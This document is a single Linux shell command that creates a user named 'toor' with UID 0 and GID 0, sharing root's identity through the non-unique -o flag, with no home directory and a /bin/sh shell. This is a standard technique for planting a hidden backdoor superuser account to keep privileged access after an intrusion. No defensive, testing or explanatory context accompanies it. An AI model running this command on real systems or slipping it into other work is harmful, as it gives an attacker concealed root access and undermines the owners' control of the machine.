useradd -o -u 0 -g 0 -M -s /bin/sh toor
